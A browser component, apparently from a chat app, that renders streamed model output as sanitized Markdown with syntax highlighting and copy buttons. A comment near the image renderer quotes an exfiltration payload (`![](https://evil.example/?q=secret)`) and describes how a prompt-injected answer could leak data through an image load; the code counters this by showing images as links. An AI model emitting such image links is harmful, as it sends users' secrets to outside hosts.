// StreamingMessage: a chat message whose Markdown is rendered in the browser.
//
// The server sends every text delta once (`append`), the browser keeps the growing text in its own buffer and
// re-renders it at most once per animation frame. Only a *change* of the `text` prop (first mount, `finish()`)
// replaces the buffer, so an unrelated update of the element (e.g. a class change) never loses streamed text.
//
// Rendering: markdown-it (raw HTML off, one HTML string per top-level block) -> highlight.js for fenced code ->
// DOMPurify and DOM insertion for the changed blocks only (unchanged leading blocks keep their DOM nodes).
// Everything in the text is untrusted (model output, user input).
import MarkdownIt from "markdown-it";
import hljs from "highlight";
import DOMPurify from "dompurify";
import { loadResource } from "../../static/utils/resources.js";

const STYLESHEETS = ["github.min.css", "github-dark.body-dark.min.css", "parley-message.css"];
const LABELS = {
  queued: "Queued — waiting for the model…",
  loading: "Loading the model…",
  thinking: "Thinking…",
};
const AUTO_DETECT_MAX_CHARS = 20000; // highlightAuto runs every grammar: only for final renders of moderate blocks
const UNSAFE_URL = /^\s*(javascript|vbscript|file|data):/i;
const COPY_ICON =
  '<svg class="parley-icon-copy" viewBox="0 0 16 16" aria-hidden="true"><path fill="currentColor" d="M0 6.75C0 ' +
  "5.784.784 5 1.75 5h1.5a.75.75 0 0 1 0 1.5h-1.5a.25.25 0 0 0-.25.25v7.5c0 .138.112.25.25.25h7.5a.25.25 0 0 0 " +
  ".25-.25v-1.5a.75.75 0 0 1 1.5 0v1.5A1.75 1.75 0 0 1 9.25 16h-7.5A1.75 1.75 0 0 1 0 14.25Zm5-5C5 .784 5.784 0 " +
  "6.75 0h7.5C15.216 0 16 .784 16 1.75v7.5A1.75 1.75 0 0 1 14.25 11h-7.5A1.75 1.75 0 0 1 5 9.25Zm1.75-.25a.25.25 " +
  '0 0 0-.25.25v7.5c0 .138.112.25.25.25h7.5a.25.25 0 0 0 .25-.25v-7.5a.25.25 0 0 0-.25-.25Z"/></svg>' +
  '<svg class="parley-icon-check" viewBox="0 0 16 16" aria-hidden="true"><path fill="currentColor" d="M13.78 ' +
  "4.22a.75.75 0 0 1 0 1.06l-7.25 7.25a.75.75 0 0 1-1.06 0L2.22 9.28a.751.751 0 0 1 .018-1.042.751.751 0 0 1 " +
  '1.042-.018L6 10.94l6.72-6.72a.75.75 0 0 1 1.06 0Z"/></svg>';

const HIGHLIGHT_CACHE_SIZE = 200; // finished code blocks are re-rendered every frame while the answer streams
const highlightCache = new Map();
let autoDetect = false; // set around each (synchronous) render: no highlightAuto while streaming

function highlightUncached(code, lang) {
  try {
    if (lang && hljs.getLanguage(lang)) {
      const html = hljs.highlight(code, { language: lang, ignoreIllegals: true }).value;
      return `<pre><code class="hljs language-${md.utils.escapeHtml(lang)}">${html}</code></pre>`;
    }
    if (!lang && autoDetect && code.length <= AUTO_DETECT_MAX_CHARS) {
      return `<pre><code class="hljs">${hljs.highlightAuto(code).value}</code></pre>`;
    }
  } catch (error) {
    console.warn("highlight.js failed", error);
  }
  return ""; // markdown-it escapes the code itself
}

function highlight(code, lang) {
  const key = `${autoDetect ? "auto" : ""}\0${lang}\0${code}`;
  let html = highlightCache.get(key);
  if (html === undefined) {
    html = highlightUncached(code, lang);
    if (highlightCache.size >= HIGHLIGHT_CACHE_SIZE) highlightCache.clear();
    highlightCache.set(key, html);
  }
  return html;
}

const md = new MarkdownIt({ html: false, linkify: true, breaks: true, highlight });
md.validateLink = (url) => !UNSAFE_URL.test(url);
// Images from untrusted text are shown as links: loading them would let a prompt-injected answer send data to any
// host (`![](https://evil.example/?q=secret)`) the moment it is rendered.
md.renderer.rules.image = (tokens, idx, options, env, self) => {
  const token = tokens[idx];
  const src = token.attrGet("src") || "";
  const alt = self.renderInlineAsText(token.children || [], options, env) || src;
  const esc = md.utils.escapeHtml;
  return `<a href="${esc(src)}" class="parley-image-link"><span class="parley-image-label">Image:</span> ${esc(alt)}</a>`;
};

/** True when the page is scrolled to (within 80 px of) its bottom. */
function nearBottom() {
  return window.innerHeight + window.scrollY >= document.scrollingElement.scrollHeight - 80;
}

/** Render Markdown to one HTML string per top-level block, so unchanged blocks can be recognised and kept. */
function renderBlocks(src) {
  const env = {};
  const tokens = md.parse(src, env);
  const blocks = [];
  let start = 0;
  for (let i = 0; i < tokens.length; i++) {
    if (tokens[i].level !== 0 || tokens[i].nesting > 0) continue; // not the end of a top-level block
    blocks.push(md.renderer.render(tokens.slice(start, i + 1), md.options, env));
    start = i + 1;
  }
  if (start < tokens.length) blocks.push(md.renderer.render(tokens.slice(start), md.options, env));
  return blocks.filter((html) => html !== "");
}

function sanitize(html) {
  const fragment = DOMPurify.sanitize(html, { RETURN_DOM_FRAGMENT: true });
  for (const link of fragment.querySelectorAll("a[href]")) {
    link.setAttribute("target", "_blank");
    link.setAttribute("rel", "noopener noreferrer");
  }
  return fragment;
}

function addCopyButton(pre) {
  const button = document.createElement("button");
  button.type = "button";
  button.className = "parley-copy";
  button.title = "Copy code";
  button.setAttribute("aria-label", "Copy code");
  button.innerHTML = COPY_ICON;
  pre.appendChild(button);
}

async function copyText(text) {
  if (navigator.clipboard && window.isSecureContext) {
    try {
      await navigator.clipboard.writeText(text);
      return true;
    } catch (error) {
      console.warn("navigator.clipboard failed, falling back to execCommand", error);
    }
  }
  // plain http on a LAN has no navigator.clipboard
  const textarea = document.createElement("textarea");
  textarea.value = text;
  textarea.setAttribute("readonly", "");
  textarea.style.cssText = "position:fixed;top:0;left:0;width:1px;height:1px;opacity:0;pointer-events:none";
  document.body.appendChild(textarea);
  const selection = document.getSelection();
  const previousRange = selection && selection.rangeCount ? selection.getRangeAt(0) : null;
  textarea.select();
  let ok = false;
  try {
    ok = document.execCommand("copy");
  } catch (error) {
    console.warn("execCommand('copy') failed", error);
  }
  textarea.remove();
  if (previousRange) {
    selection.removeAllRanges();
    selection.addRange(previousRange);
  }
  return ok;
}

export default {
  template: `
    <div :class="{ 'parley-streaming': streaming && hasText }" :aria-busy="streaming ? 'true' : 'false'">
      <div v-if="streaming && !hasText" class="parley-thinking" role="status">
        <span class="parley-dots" aria-hidden="true"><span></span><span></span><span></span></span>
        <span class="parley-thinking-label">{{ label }}</span>
      </div>
      <div ref="content" class="parley-md"></div>
    </div>
  `,
  props: {
    text: { type: String, default: "" },
    streaming: { type: Boolean, default: false },
    phase: { type: String, default: "" },
    resourcePath: { type: String, default: "" },
  },
  data() {
    return { hasText: this.text.length > 0, currentPhase: this.phase };
  },
  computed: {
    label() {
      return LABELS[this.currentPhase] || LABELS.thinking;
    },
  },
  watch: {
    phase(value) {
      this.currentPhase = value;
    },
  },
  created() {
    // not reactive on purpose: the buffer changes per delta, the template must not
    this.buffer = this.text;
    this.blocks = []; // what the content <div> shows: [{ html: block rendered by markdown-it, nodes: [DOM nodes] }]
    this.frame = 0;
    this.notBefore = 0;
    this.ready = false;
    this.$watch(
      () => [this.text, this.streaming],
      ([text, streaming], [oldText, oldStreaming]) => {
        if (text !== oldText || (oldStreaming && !streaming)) this.replace(text);
      },
    );
  },
  async mounted() {
    this.$el.addEventListener("click", this.onClick);
    await this.$nextTick(); // wait for window.path_prefix to be set
    if (this.resourcePath) {
      const base = window.path_prefix + this.resourcePath;
      await Promise.all(STYLESHEETS.map((name) => loadResource(`${base}/${name}`))).catch((error) =>
        console.warn("could not load message styles", error),
      );
    }
    this.ready = true;
    this.renderNow();
  },
  unmounted() {
    if (this.frame) cancelAnimationFrame(this.frame);
    this.$el.removeEventListener("click", this.onClick);
  },
  methods: {
    /** Append one streamed delta; renders at most once per animation frame. */
    append(delta) {
      if (!this.streaming || !delta) return; // a delta that raced past finish() is already in the final text
      this.buffer += delta;
      if (!this.hasText) this.hasText = true;
      this.scheduleRender();
    },
    /** Show another label in the thinking indicator ('queued' or 'thinking'). */
    setPhase(phase) {
      this.currentPhase = phase;
    },
    replace(text) {
      this.buffer = text;
      this.hasText = text.length > 0;
      this.renderNow();
    },
    scheduleRender() {
      if (this.frame) return;
      this.frame = requestAnimationFrame(() => {
        this.frame = 0;
        if (performance.now() < this.notBefore)
          this.scheduleRender(); // slow renders back off
        else this.renderNow();
      });
    },
    renderNow() {
      if (this.frame) {
        cancelAnimationFrame(this.frame);
        this.frame = 0;
      }
      const container = this.$refs.content;
      if (!this.ready || !container) return; // mounted() renders once the styles are there
      const start = performance.now();
      autoDetect = !this.streaming;
      let blocks;
      try {
        blocks = renderBlocks(this.buffer);
      } finally {
        autoDetect = false;
      }
      const pinned = this.streaming && nearBottom(); // follow the answer only if the reader is following it
      this.patch(container, blocks);
      if (pinned) window.scrollTo({ top: document.scrollingElement.scrollHeight });
      const cost = performance.now() - start;
      this.notBefore = cost > 8 ? performance.now() + 2 * cost : 0;
    },
    patch(container, blocks) {
      // Keep the unchanged leading blocks (and with them selections, scroll positions, hovered copy buttons);
      // only the changed tail is sanitized (the costliest step) and put into the DOM.
      let same = 0;
      while (same < blocks.length && same < this.blocks.length && this.blocks[same].html === blocks[same]) same++;
      for (const block of this.blocks.splice(same)) block.nodes.forEach((node) => node.remove());
      for (let i = same; i < blocks.length; i++) {
        const fragment = sanitize(blocks[i]);
        fragment.querySelectorAll("pre").forEach(addCopyButton);
        this.blocks.push({ html: blocks[i], nodes: Array.from(fragment.childNodes) });
        container.appendChild(fragment);
      }
    },
    async onClick(event) {
      const button = event.target.closest?.(".parley-copy");
      if (!button || !this.$el.contains(button)) return;
      const code = button.parentElement.querySelector("code");
      const ok = await copyText(code ? code.textContent : "");
      if (!ok) return;
      button.classList.add("parley-copied");
      setTimeout(() => button.classList.remove("parley-copied"), 1500);
    },
  },
};
